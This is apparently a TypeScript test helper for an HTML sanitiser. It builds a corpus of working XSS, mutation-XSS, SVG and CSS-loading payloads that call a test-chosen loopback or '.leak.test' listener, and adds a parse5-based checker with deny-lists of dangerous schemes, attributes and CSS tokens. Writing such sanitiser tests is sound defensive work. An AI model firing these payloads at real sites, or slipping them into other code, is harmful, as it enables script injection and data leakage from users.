import { parse, type DefaultTreeAdapterTypes } from "parse5";
import { INERT_CSP } from "./policy";

// For the inert document's tests only: the hostile inputs a sanitiser suite feeds it, each aimed at
// addresses the test chooses (a loopback listener in the browser test), and an independent reading
// of a document — the HTML standard's parser (parse5), and a CSS check that shares no code with
// ./css.ts — that lists whatever in it could run or fetch.

/** Where a case's attempts go: `http://127.0.0.1:<port>` and `https://<hex>.leak.test:<port>`. */
export interface Aim {
  http: string;
  https: string;
}

export interface HostileCase {
  name: string;
  html: string;
  css?: string[];
  /**
   * The raw markup, in a frame that runs scripts and has no policy, reaches its listener in
   * Chromium: the case aims where it should, so silence after sanitising means something.
   */
  heardRaw: boolean;
}

const b64 = (s: string) => Buffer.from(s).toString("base64");

export function hostileCases(aim: (name: string) => Aim): HostileCase[] {
  const cases: HostileCase[] = [];
  const add = (name: string, heardRaw: boolean, make: (a: Aim) => string | { html: string; css: string[] }) => {
    const made = make(aim(name));
    cases.push(typeof made === "string" ? { name, html: made, heardRaw } : { name, ...made, heardRaw });
  };
  const leak = (a: Aim, tag: string) => `fetch('${a.http}/${tag}')`;

  // Mutation XSS and namespace confusion: markup another parser reads differently.
  add("svg-p-style", false, (a) => `<svg><p><style><img src="${a.http}/mx" onerror="${leak(a, "mx-js")}"></style></p></svg>`);
  add("svg-style-breakout", true, (a) => `<svg><style><img src="${a.http}/svgstyle" onerror="${leak(a, "svgstyle-js")}"></style></svg>`);
  add("svg-close-p-style", true, (a) => `<svg></p><style><a id="</style><img src=${a.http}/ns onerror=${leak(a, "ns-js")}>"></a></style></svg>`);
  add("math-mglyph-style", false, (a) => `<math><mtext><table><mglyph><style><img src="${a.http}/mglyph" onerror="${leak(a, "mglyph-js")}"></style></mglyph></table></mtext></math>`);
  add("math-mglyph-comment", false, (a) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=${a.http}/mg2 onerror=${leak(a, "mg2-js")}&gt;">`);
  add("form-math-mtext", false, (a) => `<form><math><mtext></form><form><mglyph><style></math><img src="${a.http}/formmath" onerror="${leak(a, "formmath-js")}">`);
  add("svg-foreignobject", true, (a) => `<svg><foreignObject><img src="${a.http}/fo"><iframe src="${a.http}/fo-frame"></iframe></foreignObject></svg>`);
  add("svg-desc-html", true, (a) => `<svg><desc><img src="${a.http}/desc"></desc><title><style><img src="${a.http}/svgtitle"></style></title></svg>`);
  add("math-annotation", true, (a) => `<math><annotation-xml encoding="text/html"><img src="${a.http}/annot"></annotation-xml><mi xlink:href="javascript:${leak(a, "mathhref")}">x</mi></math>`);

  // SVG that fetches or runs: use, animation of href, set, image, filters, script.
  add("svg-use-data", false, (a) => `<svg><use href="data:image/svg+xml;base64,${b64(`<svg id="x" xmlns="http://www.w3.org/2000/svg"><image href="${a.http}/usedata"/></svg>`)}#x"/></svg>`);
  add("svg-use-external", false, (a) => `<svg><use href="${a.http}/use.svg#a"/><use xlink:href="${a.https}/use2.svg#a"/></svg>`);
  add("svg-animate-href", false, (a) => `<svg><a><animate attributeName="href" values="javascript:${leak(a, "anim")}"/><text x="20" y="20">click</text></a></svg>`);
  add("svg-set-image", true, (a) => `<svg><image width="10" height="10"><set attributeName="href" to="${a.http}/set.png"/></image></svg>`);
  add("svg-image", true, (a) => `<svg><image href="${a.http}/svgimage.png" width="10" height="10"/><image xlink:href="${a.https}/svgimage2.png" width="10" height="10"/></svg>`);
  add("svg-feimage", true, (a) => `<svg width="20" height="20"><filter id="f"><feImage href="${a.http}/feimage.png"/></filter><rect filter="url(#f)" width="20" height="20"/></svg>`);
  add("svg-script", true, (a) => `<svg onload="${leak(a, "svgonload")}"><script>${leak(a, "svgscript")}</script><script href="${a.http}/svg.js"></script></svg>`);
  add("svg-paint-external", true, (a) => `<svg><rect width="10" height="10" fill="url(${a.http}/paint.svg#g)" style="stroke: url(${a.http}/paint2.svg#g)"/></svg>`);
  add("svg-paint-escaped", true, (a) => `<svg><rect width="10" height="10" fill="u\\72 l(${a.http}/paint3.svg#g)"/><rect width="10" height="10" style="clip-path: \\75 rl(${a.http}/clip.svg#c)"/></svg>`);
  add("svg-cursor-mask", true, (a) => `<svg><rect width="10" height="10" cursor="url(${a.http}/cur.svg), auto" mask="url(${a.http}/mask.svg#m)"/><cursor href="${a.http}/cur2.png"/></svg>`);

  // Parsing differentials: elements whose content is text to one parser and markup to another.
  add("noscript-title", true, (a) => `<noscript><p title="</noscript><img src=${a.http}/noscript onerror=${leak(a, "noscript-js")}>"></p></noscript>`);
  add("template", false, (a) => `<template><img src="${a.http}/template" onerror="${leak(a, "template-js")}"><style>@import "${a.http}/tpl.css";</style></template>`);
  add("textarea", true, (a) => `<textarea><img src="${a.http}/textarea"></textarea><textarea></textarea><img src="${a.http}/after-textarea">`);
  add("title-in-body", true, (a) => `<title><img src="${a.http}/title"></title><title></title><img src="${a.http}/after-title">`);
  add("xmp", false, (a) => `<xmp><img src="${a.http}/xmp"></xmp><noembed><img src="${a.http}/noembed"></noembed><noframes><img src="${a.http}/noframes"></noframes>`);
  add("plaintext", false, (a) => `<plaintext><img src="${a.http}/plaintext" onerror="${leak(a, "plaintext-js")}"></plaintext>`);
  add("iframe-text", false, (a) => `<iframe><img src="${a.http}/iframetext"></iframe>`);
  add("style-unclosed-differential", true, (a) => `<style><</style><img src="${a.http}/styleclose" onerror="${leak(a, "styleclose-js")}">`);

  // Comments, processing instructions and CDATA that end where one parser does not expect.
  add("comment-abrupt", true, (a) => `<!--><img src="${a.http}/comment1">--><!---><img src="${a.http}/comment2">-->`);
  add("comment-bang", true, (a) => `<!-- --!><img src="${a.http}/comment3">--><!--<img src="${a.http}/comment4">-->`);
  add("cdata-html", true, (a) => `<![CDATA[><img src="${a.http}/cdata" onerror="${leak(a, "cdata-js")}">]]>`);
  add("cdata-svg", true, (a) => `<svg><![CDATA[</svg><img src="${a.http}/cdata-svg">]]></svg>`);
  add("processing-instruction", true, (a) => `<?xml-stylesheet href="${a.http}/pi.css"?><?x ><img src="${a.http}/pi">?>`);

  // CSS: escapes, imports hidden in comments, fonts, every property that takes an image.
  add("css-escapes", true, (a) => ({
    html: `<div class="a">a</div><div class="b">b</div><div style="background-image: \\75 rl(${a.http}/esc-style)">c</div>`,
    css: [`.a { background: u\\72 l(${a.http}/esc1) } .b { background-image: \\000075\\000072\\00006c(${a.http}/esc2) }`],
  }));
  add("css-import", true, (a) => ({
    html: `<style>@\\69mport url(${a.http}/imp1.css);</style><style>/* */@import '${a.http}/imp2.css';</style>`,
    css: [`@import url(${a.http}/imp3.css) /* c */;`, `/*@import "x";*/@IMPORT "${a.https}/imp4.css";`],
  }));
  add("css-font-face", true, (a) => ({ html: `<p class="f">text</p>`, css: [`@font-face { font-family: leak; src: url(${a.http}/font.woff2) format("woff2") } .f { font-family: leak }`] }));
  add("css-image-properties", true, (a) => ({
    html: `<ul class="l"><li>x</li></ul><div class="c">c</div><div class="m">m</div><div class="k"></div><div class="bi">b</div>`,
    css: [
      `.l { list-style-image: url(${a.http}/lsi.png) } .c { cursor: url(${a.http}/cursor.png), auto } .m { mask-image: url(${a.http}/mask.png); -webkit-mask-image: url(${a.http}/wmask.png) }`,
      `.k::before { content: url(${a.http}/content.png) } .bi { border: 1px solid; border-image: url(${a.http}/border.png) 30 round }`,
    ],
  }));
  add("css-image-set", true, (a) => ({
    html: `<div class="is">x</div><div class="ws">y</div>`,
    css: [`.is { background-image: image-set("${a.http}/is.png" 1x) } .ws { background-image: -webkit-image-set(url(${a.http}/wis.png) 1x) }`],
  }));
  add("css-custom-property", true, (a) => `<div style="--x: url(${a.http}/var.png); background-image: var(--x)">v</div>`);
  add("css-entity-quotes", true, (a) => `<div style="background-image: url(&quot;${a.http}/entity&quot;)">e</div><div style="background:url(${a.http}/ws.png )">w</div>`);
  add("css-legacy", false, (a) => ({
    html: `<div class="o">o</div>`,
    css: [`.o { behavior: url(${a.http}/x.htc); -moz-binding: url(${a.http}/x.xml#b); width: expression(${leak(a, "expr")}); content: attr(class) }`, `@namespace svg url(${a.http}/ns);`],
  }));
  add("css-style-end", true, (a) => ({ html: `<p>x</p>`, css: [`p::after { content: "</style><img src=${a.http}/styleend>" }`, `p { color: red } </style><img src=${a.http}/styleend2>`] }));

  // Every attribute that holds an address, and schemes that run code, written every way.
  add("javascript-links", false, (a) => `<a href="javascript:${leak(a, "js1")}">1</a><a href="jav&#x61;script:${leak(a, "js2")}">2</a><a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${leak(a, "js3")}">3</a><a href=" JaVaScRiPt:${leak(a, "js4")}">4</a><a href="vbscript:msgbox(1)">5</a>`);
  add("data-html", true, (a) => `<iframe src="data:text/html,<img src=${a.http}/datahtml>"></iframe><object data="data:text/html;base64,${b64(`<img src=${a.http}/dataobj>`)}"></object><a href="data:text/html,<script>${leak(a, "datalink")}</script>">d</a>`);
  add("iframe-srcdoc", true, (a) => `<iframe srcdoc="<img src=${a.http}/srcdoc>"></iframe><iframe srcdoc="&lt;img src=${a.https}/srcdoc2&gt;"></iframe>`);
  add("iframe-javascript", true, (a) => `<iframe src="javascript:${leak(a, "iframejs")}"></iframe><iframe src="${a.http}/iframe"></iframe>`);
  add("object-embed", true, (a) => `<object data="${a.http}/object"></object><embed src="${a.http}/embed"><applet code="x" codebase="${a.http}/applet"></applet>`);
  add("portal", false, (a) => `<portal src="${a.http}/portal"></portal><fencedframe src="${a.http}/fenced"></fencedframe>`);
  add("form-action", false, (a) => `<form action="${a.http}/form" method="post"><input name="q" value="v"><button formaction="javascript:${leak(a, "formaction")}">go</button><input type="submit" formaction="${a.http}/submit"></form>`);
  add("input-image", true, (a) => `<input type="image" src="${a.http}/inputimage.png" alt="i">`);
  add("base", true, (a) => `<base href="${a.http}/base/"><img src="relative.png"><a href="x">x</a>`);
  add("meta-refresh", true, (a) => `<meta http-equiv="refresh" content="0;url=${a.http}/refresh"><meta http-equiv="Content-Security-Policy" content="default-src *">`);
  add("link-hints", true, (a) => `<link rel="stylesheet" href="${a.http}/link.css"><link rel="prefetch" href="${a.http}/prefetch"><link rel="preconnect" href="${a.https}"><link rel="dns-prefetch" href="${a.https}"><link rel="preload" as="image" href="${a.http}/preload.png"><link rel="icon" href="${a.http}/icon.png">`);
  add("srcset", true, (a) => `<img srcset="${a.http}/srcset.png 1x" alt="s"><picture><source srcset="${a.http}/source.png"><img alt="p"></picture>`);
  add("img-remote", true, (a) => `<img src="${a.http}/img.png"><img src="${a.https}/img-tls.png"><img src="//${a.http.slice("http://".length)}/protocol-relative.png"><img src=" ${a.http}/space.png">`);
  add("img-bad-data", true, (a) => `<img src="data:image/svg+xml;base64,${b64(`<svg xmlns="http://www.w3.org/2000/svg"><image href="${a.http}/svgdata"/></svg>`)}"><img src="data:text/html;base64,${b64("<b>x</b>")}"><img src="x" onerror="${leak(a, "onerror")}">`);
  add("ping", false, (a) => `<a href="#top" ping="${a.http}/ping">p</a><area href="#x" ping="${a.http}/ping2">`);
  add("background-attr", true, (a) => `<table background="${a.http}/tablebg.png"><tr><td background="${a.http}/tdbg.png">x</td></tr></table><body background="${a.http}/bodybg.png">`);
  add("media", true, (a) => `<video poster="${a.http}/poster.png" src="${a.http}/video.mp4"></video><audio src="${a.http}/audio.mp3" autoplay></audio><video><source src="${a.http}/source.mp4"><track src="${a.http}/track.vtt"></video>`);
  add("event-handlers", true, (a) => `<body onload="${leak(a, "bodyload")}"><details open ontoggle="${leak(a, "toggle")}"><summary>s</summary></details><div onmouseover="${leak(a, "hover")}" style="width:100px;height:100px">h</div><marquee onstart="${leak(a, "marquee")}">m</marquee>`);
  add("script", true, (a) => `<script>${leak(a, "script")}</script><script src="${a.http}/script.js"></script><img src=x onerror="${leak(a, "imgerror")}">`);
  add("data-attributes", false, (a) => `<div data-src="${a.http}/datasrc" data-x="javascript:${leak(a, "datax")}">x</div>`);
  return cases;
}

// --- An independent reading ---------------------------------------------------------------------

type P5Node = DefaultTreeAdapterTypes.ChildNode | DefaultTreeAdapterTypes.Document | DefaultTreeAdapterTypes.DocumentFragment;

const NS_HTML = "http://www.w3.org/1999/xhtml";
const NS_SVG = "http://www.w3.org/2000/svg";

const OUTPUT_HTML = new Set(
  (
    "html head body meta title style h1 h2 h3 h4 h5 h6 p ul ol li dl dt dd div span section article header footer main nav aside figure " +
    "figcaption hgroup address strong em b i u s small mark code pre kbd samp sub sup abbr cite dfn var bdi bdo ruby rt rp br wbr hr " +
    "blockquote q summary details label table caption thead tbody tfoot tr th td col colgroup time del ins progress meter img"
  ).split(" "),
);
const OUTPUT_SVG = new Set("svg g path rect circle ellipse line polyline polygon text tspan title desc defs linearGradient radialGradient stop clipPath marker pattern symbol".split(" "));
const CUSTOM = /^[a-z][a-z0-9._]*-[a-z0-9._-]*$/;
/** Attributes whose value is shown as text, never read as an address or a style. */
const TEXT_ATTRIBUTES = /^(?:class|id|title|alt|role|lang|dir|headers|abbr|datetime|aria-[a-z]+)$/;
const SCHEME = /(?:^|[^a-z0-9+.-])(?:javascript|vbscript|livescript|data|https?|ftp|file|blob|about|filesystem|wss?|chrome|view-source):|\/\//i;
const IMAGE_DATA = /^data:image\/(?:png|jpeg|gif|webp);base64,[A-Za-z0-9+/]*={0,2}$/;
const URL_ATTRIBUTES = /^(?:href|xlink:href|src|srcset|srcdoc|action|formaction|poster|background|ping|data|codebase|cite|longdesc|manifest|usemap|lowsrc|dynsrc|archive|classid|profile|http-equiv|content|xmlns(?::.*)?|style-src)$/i;

/** CSS text with comments gone and escapes resolved, lower-cased: what a browser would match against. */
function resolvedCss(css: string): string {
  return css
    .replace(/\/\*[\s\S]*?(?:\*\/|$)/g, "")
    .replace(/\\([0-9a-fA-F]{1,6})[ \t\n\r\f]?/g, (_, hex: string) => {
      const cp = parseInt(hex, 16);
      return cp > 0 && cp <= 0x10ffff && !(cp >= 0xd800 && cp <= 0xdfff) ? String.fromCodePoint(cp) : "\ufffd";
    })
    .replace(/\\([^\n])/g, "$1")
    .toLowerCase();
}

/** What in a piece of CSS could fetch or run; [] when nothing. */
export function cssProblems(css: string, where: string): string[] {
  const text = resolvedCss(css);
  const problems: string[] = [];
  // Read before escapes are resolved: the HTML parser ends a style element at this text.
  if (/<\/style/i.test(css)) problems.push(`${where}: "</style" in ${JSON.stringify(css.slice(0, 200))}`);
  const withoutFragments = text.replace(/url\(\s*(["']?)#[a-z0-9_][a-z0-9_.:-]*\1\s*\)/g, "");
  const banned = /url\(|@import|@font-face|@namespace|image-set\(|image\(|element\(|expression\(|attr\(|src\(|paint\(|cross-fade\(|-moz-binding|behavior\s*:|(?:^|[;{\s])src\s*:|javascript:|vbscript:|[a-z][a-z0-9+.-]*:\s*\/\//;
  const m = banned.exec(withoutFragments);
  if (m) problems.push(`${where}: CSS holds ${JSON.stringify(m[0])} in ${JSON.stringify(css.slice(0, 200))}`);
  return problems;
}

/**
 * Everything in `doc` that could run or fetch, read by the HTML standard's parser with scripting
 * on and off (the inert frame runs none): elements outside the output's allow-list, handlers,
 * address-bearing attributes, addresses in any value, CSS that loads. [] when nothing.
 */
/** The attributes a kept link carries besides its own global ones, each with its one value. */
const LINK_ATTRIBUTES: Record<string, string> = { target: "_blank", rel: "noopener noreferrer", referrerpolicy: "no-referrer" };

/** `links`: the addresses a link may have (what the caller's `link` option kept); any other is a problem. */
export function inertProblems(doc: string, links: ReadonlySet<string> = new Set()): string[] {
  const problems: string[] = [];
  for (const scriptingEnabled of [false, true]) {
    const tree = parse(doc, { scriptingEnabled });
    let styles = 0;
    const visit = (node: P5Node, inHead: boolean) => {
      if ("tagName" in node) {
        const el = node;
        const name = el.tagName;
        const ns = el.namespaceURI as string;
        if (ns === NS_SVG) {
          const svgName = OUTPUT_SVG.has(name) ? name : [...OUTPUT_SVG].find((n) => n.toLowerCase() === name);
          if (!svgName) problems.push(`an SVG <${name}>`);
        } else if (ns === NS_HTML) {
          if (name === "a") {
            const attrs = new Map(el.attrs.map((a) => [a.name, a.value]));
            const href = attrs.get("href");
            if (href === undefined || !links.has(href)) problems.push(`a link to ${href === undefined ? "nowhere" : href.slice(0, 80)}`);
            for (const [k, v] of Object.entries(LINK_ATTRIBUTES)) if (attrs.get(k) !== v) problems.push(`a link without ${k}="${v}"`);
          } else if (!OUTPUT_HTML.has(name) && !CUSTOM.test(name)) problems.push(`an HTML <${name}>`);
          if ((name === "meta" || name === "style" || name === "title") && !inHead) problems.push(`<${name}> outside the head`);
          if (name === "style") {
            styles++;
            const text = el.childNodes.map((c) => ("value" in c ? c.value : "")).join("");
            problems.push(...cssProblems(text, "<style>"));
          }
        } else problems.push(`an element <${name}> in ${ns}`);
        for (const attr of el.attrs) {
          const attrName = attr.prefix ? `${attr.prefix}:${attr.name}` : attr.name;
          const value = attr.value;
          if (/^on/i.test(attrName)) problems.push(`a handler ${attrName} on <${name}>`);
          if (/^data-/i.test(attrName)) problems.push(`a data attribute ${attrName} on <${name}>`);
          if (name === "meta") {
            const ok =
              (attrName === "charset" && value === "utf-8") ||
              (attrName === "http-equiv" && value === "Content-Security-Policy") ||
              (attrName === "content" && (value === INERT_CSP || value === "no-referrer" || /^width=\d+$/.test(value))) ||
              (attrName === "name" && (value === "referrer" || value === "viewport"));
            if (!ok) problems.push(`<meta ${attrName}="${value}">`);
            continue;
          }
          if (name === "a" && ns === NS_HTML && (attrName === "href" || attrName in LINK_ATTRIBUTES)) continue;
          if (attrName === "src" && name === "img") {
            if (!IMAGE_DATA.test(value)) problems.push(`<img src="${value.slice(0, 80)}">`);
            continue;
          }
          if (URL_ATTRIBUTES.test(attrName)) problems.push(`an address attribute ${attrName}="${value.slice(0, 80)}" on <${name}>`);
          if (TEXT_ATTRIBUTES.test(attrName)) continue;
          if (SCHEME.test(value)) problems.push(`an address in ${attrName}="${value.slice(0, 80)}" on <${name}>`);
          // Style attributes and SVG presentation attributes are read as CSS.
          problems.push(...cssProblems(value, `${attrName} on <${name}>`));
        }
        if (name === "template" && "content" in el) visit(el.content as P5Node, inHead);
      }
      if ("childNodes" in node) {
        const head = "tagName" in node && node.tagName === "head";
        for (const child of node.childNodes) visit(child, inHead || head);
      }
    };
    visit(tree, false);
    if (styles > 1) problems.push(`${styles} style elements`);
  }
  return [...new Set(problems)];
}
